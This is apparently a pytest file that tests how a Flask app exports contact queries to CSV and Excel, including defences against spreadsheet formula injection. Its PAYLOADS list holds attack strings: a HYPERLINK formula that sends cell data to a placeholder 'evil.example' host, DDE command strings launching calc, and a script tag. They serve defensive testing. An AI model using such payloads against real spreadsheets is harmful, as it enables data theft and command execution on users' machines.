"""Files of queries: whole, in order, and harmless in a spreadsheet."""

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import NoReturn
from xml.etree import ElementTree

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.exc import OperationalError

from app.content.calendar import today_in_india
from app.extensions import db
from app.leads.kinds import LeadKind
from app.leads.records import LeadRecord
from app.staff.queries import routes as query_routes
from app.staff.queries.exports import COLUMNS, csv_chunks, harmless
from app.staff.queries.routes import ExportBrokenError
from app.staff.queries.workbook import file_chunks, write_workbook
from tests.app.leads.new_leads import keep

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = [
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '";=1+1',
    "<script>alert(1)</script>",
    'first line\nsecond, with "quotes"; and पूजा 🙂',
    "control \x01 and _x0041_",
]


def lead(number: int = 0, **changes: object) -> LeadRecord:
    values: dict[str, object] = {
        "id": f"{number:024x}",
        "kind": LeadKind.CONTACT,
        "name": f"Visitor {number}",
        "email": "asha@example.in",
        "phone": "+919876543210",
        "message": None,
        "created_at": datetime(2026, 4, 15, 20, 30, 5, 999, tzinfo=UTC),
        "seen_at": None,
        "suspected": False,
        "suspicion": None,
        "notice_version": "2026-04",
    }
    return LeadRecord(**(values | changes))  # type: ignore[arg-type]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_workbook(content: bytes) -> list[list[list[str]]]:
    """The texts of each sheet's rows; a cell that is no text fails."""
    sheets = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in sorted(name for name in archive.namelist() if name.startswith("xl/worksheets/")):
            root = ElementTree.fromstring(archive.read(name))
            assert root.findall(f".//{SHEET}f") == []
            cells = root.findall(f".//{SHEET}c")
            assert {cell.get("t") for cell in cells} == {"inlineStr"}
            rows = root.findall(f".//{SHEET}row")
            sheets.append([[text.text or "" for text in row.findall(f".//{SHEET}t")] for row in rows])
    return sheets


def test_a_csv_file_as_a_spreadsheet_opens_it(app: Flask, client: FlaskClient) -> None:
    with app.app_context():
        keep(name="Second", minutes_ago=1, message='a, "b"\nc', suspicion="too fast", notice_version="2026-04")
        keep(name="First")
        keep(name="Elsewhere", kind=LeadKind.ADVISOR)
    reply = client.get("/api/contact-data/export.csv")
    assert (reply.status_code, reply.headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    day = today_in_india().isoformat()
    assert reply.headers["Content-Disposition"] == f'attachment; filename="contact-queries-{day}.csv"'
    assert reply.headers["Cache-Control"] == "no-store"
    assert reply.data.count(b"\r\n") == 3
    assert read_csv(reply.data) == [
        ["#", "Name", "Email", "Phone", "Message", "Date (IST)", "Date (UTC)", "Suspected", "Notice version"],
        [
            *("1", "First", "asha@example.in", "'+919876543210", "Please call me."),
            *("2026-04-15 12:00:00", "2026-04-15 06:30:00", "no", ""),
        ],
        [
            *("2", "Second", "asha@example.in", "'+919876543210", 'a, "b"\nc'),
            *("2026-04-15 11:59:00", "2026-04-15 06:29:00", "yes", "2026-04"),
        ],
    ]


def test_a_workbook_holds_the_same(app: Flask, client: FlaskClient) -> None:
    with app.app_context():
        keep(name="Second", minutes_ago=1, message='a, "b"\nc')
        keep(name="First")
    reply = client.get("/api/contact-data/export.xlsx")
    assert reply.headers["Content-Type"] == query_routes.XLSX
    assert reply.headers["Content-Disposition"].endswith('.xlsx"')
    [heading, *rows] = read_workbook(reply.data)[0]
    assert tuple(heading) == COLUMNS
    assert [row[:6] for row in rows] == [
        ["1", "First", "asha@example.in", "+919876543210", "Please call me.", "2026-04-15 12:00:00"],
        ["2", "Second", "asha@example.in", "+919876543210", 'a, "b"\nc', "2026-04-15 11:59:00"],
    ]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_file_holds_exactly_what_is_filtered(app: Flask, client: FlaskClient, file_format: str) -> None:
    with app.app_context():
        for number in range(4):
            keep(name=f"Visitor {number}", minutes_ago=number)
        keep(name="Other")
    address = f"/api/contact-data/export.{file_format}?q=visitor&sort=oldest&from=2026-04-15&limit=1"
    content = client.get(address).data
    rows = read_csv(content) if file_format == "csv" else read_workbook(content)[0]
    assert [row[1] for row in rows[1:]] == ["Visitor 3", "Visitor 2", "Visitor 1", "Visitor 0"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_empty_file_has_its_heading(client: FlaskClient, file_format: str) -> None:
    content = client.get(f"/api/speak-data/export.{file_format}").data
    rows = read_csv(content) if file_format == "csv" else read_workbook(content)[0]
    assert [tuple(row) for row in rows] == [COLUMNS]


def test_no_cell_of_a_csv_file_is_a_formula() -> None:
    records = [lead(name=payload, email=payload, message=payload) for payload in PAYLOADS]
    rows = read_csv(b"".join(csv_chunks(records)))
    for payload, row in zip(PAYLOADS, rows[1:], strict=True):
        for cell in (row[1], row[2], row[4]):
            assert cell in {payload, f"'{payload}"}
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in row)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1", "'=1"),
        ("+91", "'+91"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell: str, written: str) -> None:
    assert harmless(cell) == written


def test_a_workbook_holds_every_text_as_it_is_and_no_formula() -> None:
    with write_workbook([lead(name=payload, message=payload) for payload in PAYLOADS]) as file:
        [rows] = read_workbook(file.read())
    written = [row[1].replace("_x000D_", "\r").replace("_x0001_", "\x01").replace("_x005F_", "_") for row in rows[1:]]
    assert written == PAYLOADS


def test_cells_stay_text_when_they_are_edited() -> None:
    with write_workbook([lead()]) as file, zipfile.ZipFile(file) as archive:
        styles = archive.read("xl/styles.xml").decode()
    assert 'numFmtId="49"' in styles
    assert 'quotePrefix="1"' in styles


def test_a_full_sheet_continues_in_the_next() -> None:
    with write_workbook([lead(number) for number in range(7)], rows_in_sheet=3) as file:
        sheets = read_workbook(file.read())
    assert [[row[0] for row in sheet] for sheet in sheets] == [["#", "1", "2", "3"], ["#", "4", "5", "6"], ["#", "7"]]


def test_a_broken_workbook_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def broken() -> Iterator[LeadRecord]:
        yield lead()
        raise RuntimeError

    with pytest.raises(RuntimeError):
        write_workbook(broken())
    assert list(tmp_path.iterdir()) == []
    with write_workbook([lead()]) as file:
        assert len(b"".join(file_chunks(file))) > 1000
    assert list(tmp_path.iterdir()) == []


def test_csv_is_made_while_it_is_read() -> None:
    taken = 0

    def many() -> Iterator[LeadRecord]:
        nonlocal taken
        for number in range(10_000):
            taken += 1
            yield lead(number)

    chunks = csv_chunks(many())
    assert len(next(chunks)) < 64 * 1024
    assert taken < 1000
    assert b"Visitor 9999" in b"".join(chunks)


@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_an_abandoned_file_gives_its_connection_back(app: Flask, client: FlaskClient, method: str) -> None:
    with app.app_context():
        for _ in range(1000):
            keep()
        reply = client.open("/api/contact-data/export.csv", method=method)
        reply.close()
        assert db.engine.pool.status().count("Current Checked out connections: 0") == 1


def test_a_database_that_fails_midway_breaks_the_file_off_and_quotes_nothing(
    app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def failing(*_: object) -> Iterator[LeadRecord]:
        for number in range(1000):
            yield lead(number)
        fail()

    monkeypatch.setattr(query_routes, "stream_leads", failing)
    with pytest.raises(ExportBrokenError, match="DisconnectError") as broken:
        _ = client.get("/api/contact-data/export.csv?q=secret").data
    assert broken.value.__suppress_context__
    assert "secret" not in caplog.text


def test_a_database_that_fails_at_once_is_an_answer(client: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
    def failing(*_: object) -> Iterator[LeadRecord]:
        fail()
        yield lead()

    monkeypatch.setattr(query_routes, "stream_leads", failing)
    for file_format in ("csv", "xlsx"):
        assert client.get(f"/api/contact-data/export.{file_format}").status_code == 503


class DisconnectError(Exception):
    """What a driver raises."""


def fail() -> NoReturn:
    raise OperationalError("SELECT … LIKE ?", {"search": "secret"}, DisconnectError("secret"))
